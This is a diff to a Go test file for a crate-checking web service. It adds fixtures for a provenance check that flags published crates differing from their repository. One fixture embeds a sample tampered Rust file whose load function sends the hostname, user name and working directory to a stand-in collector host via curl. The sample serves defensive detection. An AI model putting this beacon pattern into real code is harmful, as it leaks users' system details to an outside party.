@@ -10,6 +10,7 @@ import (
 
 	"github.com/cratefence/cratefence/internal/check"
 	"github.com/cratefence/cratefence/internal/checks"
+	"github.com/cratefence/cratefence/internal/checks/provenance"
 	"github.com/cratefence/cratefence/internal/crate"
 	"github.com/cratefence/cratefence/internal/store"
 )
@@ -27,17 +28,21 @@ var testChecks = []*check.Check{
 	{Name: "changes", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What changed since the version before", Timeout: time.Minute},
 	{Name: "dependencies", Version: 2, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What the release begins to depend on", Timeout: time.Minute},
 	{Name: "licence", Version: 1, Category: check.CategoryQuality, About: check.AboutRelease, Doc: "The licence is stated", Timeout: time.Minute},
-	{Name: "provenance", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "The files are those of the commit", Timeout: 10 * time.Minute},
+	{Name: "provenance", Version: 2, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "The files are those of the commit", Timeout: 10 * time.Minute},
 	{Name: "publisher", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "Who published", Timeout: time.Minute},
 	{Name: "sandbox-build", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What building does", Timeout: time.Hour},
-	{Name: "security-policy", Version: 1, Category: check.CategoryInformational, About: check.AboutCrate, Doc: "How to report a vulnerability", Timeout: time.Minute},
+	{Name: "security-policy", Version: 1, Category: check.CategoryInformational, About: check.AboutCrate, Doc: "How to report a vulnerability", Timeout: time.Minute, RecheckVisited: 24 * time.Hour},
 }
 
-func serve(f *fake) http.Handler {
-	return New(Config{
+func serve(f *fake) http.Handler { return serveWith(f, func(*Config) {}) }
+
+func serveWith(f *fake, edit func(*Config)) http.Handler {
+	c := Config{
 		Catalogue: f, Results: f, Checks: testChecks, Registry: "crates.io", BaseURL: "https://fence.example",
 		Now: func() time.Time { return now }, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
-	})
+	}
+	edit(&c)
+	return New(c)
 }
 
 // did is a check that has reported.
@@ -189,6 +194,73 @@ func silent(f *fake) store.Release {
 	return r
 }
 
+const commit = "3f2a91c0d5b1e7f8a9b0c1d2e3f4a5b6c7d8e9f0"
+
+// compared are crates whose repositories were read: one that is not what its
+// repository holds, and one that is, whose tag was gone when looked for again,
+// with an older version that an older check looked at.
+func compared(f *fake) {
+	tampered := f.add("tampered", store.Release{Version: "2.1.0", Via: store.ViaWebhook, FirstSeenAt: ago(time.Hour), PublishedAt: ago(time.Hour)})[0]
+	f.set(tampered.ID, traced(check.Failure, "2 files can be built or run and are not what git.example/o/tampered at 3f2a91c holds", checks.ProvenanceFacts{
+		Repository: "https://git.example/o/tampered", Declared: "https://git.example/old/name.git", Commit: commit, CommittedAt: ago(3 * time.Hour),
+		Reach: &checks.ProvenanceReach{Grade: provenance.GradeBranch, Refs: []string{"refs/heads/next"}, DefaultBranch: "refs/heads/main", VersionTags: []string{"refs/tags/v2.1.0"}},
+		Dirty: true, Path: "crates/tampered",
+		Files: map[provenance.Kind]int{
+			provenance.Exact: 31, provenance.Generated: 3, provenance.LineEnds: 2, provenance.Modified: 1, provenance.Unknown: 1, provenance.Uncompared: 4, "sideways": 1,
+		},
+		Differing: []checks.ProvenanceFile{
+			{Path: "src/lib.rs", Kind: provenance.Modified, Source: true, At: "crates/tampered/src/lib.rs", Diff: "@@ -8,4 +8,5 @@ impl Table {\n     pub fn load(&self) {\n-        self.read(\"defaults.toml\");\n" +
+				"+        let url = \"https://collector.example/beacon?host=\".to_string() + &hostname() + \"&user=\" + &whoami() + \"&cwd=\" + &cwd();\n+        std::process::Command::new(\"curl\").arg(url).spawn();\n     }\n }\n"},
+			{Path: "build.rs", Kind: provenance.Unknown, Source: true},
+		},
+		Missing: []string{"tests/load.rs"},
+		Settings: []checks.ProvenanceSetting{
+			{Path: "dependencies.hex.version", Origin: "\"0.4\"", Published: "\"*\"", From: "repository", Class: "build", Text: "The requirement on `hex` is wider than the repository's"},
+			{Path: "package.build", Published: "\"build.rs\"", From: "repository", Class: "build", Text: "A build script that the repository's manifest does not name"},
+		},
+		ManifestNotes: []string{"dev-dependency `main` stripped: it has no version"},
+		Lock:          &checks.ProvenanceLock{Entries: 12, InRepository: true, Resolved: []string{"itoa 1.0.15"}},
+	}, check.Finding{
+		Rule: "file-modified", Level: check.LevelError, Path: "src/lib.rs", StartLine: 9, EndLine: 10, Snippet: "        let url",
+		Message: "src/lib.rs is not what the repository holds at 3f2a91c", Help: "Commit everything, push it, and publish from that commit.",
+	}, check.Finding{
+		Rule: "file-unknown", Level: check.LevelError, Path: "build.rs", StartLine: 1, EndLine: 1, Snippet: "fn main() {",
+		Message: "build.rs is not in the repository at 3f2a91c",
+	}))
+
+	both := f.add("traced", store.Release{Version: "1.1.0", Via: store.ViaWebhook, FirstSeenAt: ago(15 * 24 * time.Hour)}, store.Release{Version: "1.0.0", Via: store.ViaWebhook, FirstSeenAt: ago(200 * 24 * time.Hour)})
+	in := traced(check.Success, "24 files and the manifest match git.example/o/traced at 3f2a91c, the tag v1.1.0", checks.ProvenanceFacts{
+		Repository: "https://git.example/o/traced", Declared: "https://git.example/o/traced.git", Commit: commit, CommittedAt: ago(15 * 24 * time.Hour),
+		Reach: &checks.ProvenanceReach{Grade: provenance.GradeVersionTag, Refs: []string{"refs/tags/v1.1.0"}, Tip: true, DefaultBranch: "refs/heads/main"},
+		Files: map[provenance.Kind]int{provenance.Exact: 21, provenance.Generated: 3},
+	})
+	in.Counts.ID, in.Counts.Attempt, in.Counts.CompletedAt = 11, 2, ago(8*24*time.Hour)
+	in.Later = &store.CheckRun{
+		ID: 12, Check: "provenance", CheckVersion: 2, Attempt: 3, Again: true, Status: store.Completed, CompletedAt: ago(24 * time.Hour),
+		Report: check.Report{Conclusion: check.Inconclusive, Title: "The tag `v1.1.0` is gone since 12 November 2026"},
+	}
+	f.set(both[0].ID, in)
+	first := *in.Counts
+	first.ID, first.Attempt, first.CompletedAt = 10, 1, ago(15*24*time.Hour)
+	f.past = map[store.ID][]store.CheckRun{both[0].ID: {*in.Later, *in.Counts, first}}
+	old := traced(check.Neutral, "6 of 8 files match git.example/o/traced at 3f2a91c", checks.ProvenanceFacts{
+		Repository: "https://git.example/o/traced", Commit: commit, Files: map[provenance.Kind]int{provenance.Exact: 6, provenance.Submodule: 2},
+	})
+	old.Counts.CheckVersion = 1
+	f.set(both[1].ID, old)
+}
+
+// traced is the check provenance, which has compared.
+func traced(c check.Conclusion, title string, facts checks.ProvenanceFacts, findings ...check.Finding) store.CheckState {
+	encoded, err := json.Marshal(facts)
+	if err != nil {
+		panic(err)
+	}
+	state := did("provenance", check.Report{Conclusion: c, Title: title, Facts: encoded, Findings: findings})
+	state.Counts.CheckVersion = 2
+	return state
+}
+
 func everything() *fake {
 	f := &fake{}
 	arrayview(f)
@@ -196,6 +268,7 @@ func everything() *fake {
 	pointing(f)
 	fresh(f)
 	silent(f)
+	compared(f)
 	return f
 }
 
@@ -204,5 +277,6 @@ var pages = []string{
 	"/", "/crates", "/crates?q=arrayview", "/crates?q=nothing-like-it", "/crates/arrayview", "/crates/arrayview/versions", "/crates/arrayview/dependencies",
 	"/crates/arrayview/security", "/crates/arrayview/checks", "/crates/arrayview/0.3.9", "/crates/arrayview/0.3.9/security", "/crates/arrayview/0.3.9/dependencies",
 	"/crates/quiet-crate", "/crates/quiet-crate/versions", "/crates/quiet-crate/security", "/crates/quiet-crate/1.14.0/security", "/crates/Pointing_Out",
-	"/crates/Pointing_Out/security", "/crates/fresh", "/crates/fresh/security", "/crates/silent/security", "/checks", "/checks/archive", "/checks/provenance", "/incidents",
+	"/crates/Pointing_Out/security", "/crates/fresh", "/crates/fresh/security", "/crates/silent/security",
+	"/crates/tampered/security", "/crates/traced/security", "/crates/traced/1.0.0/security", "/checks", "/checks/archive", "/checks/provenance", "/incidents",
 }
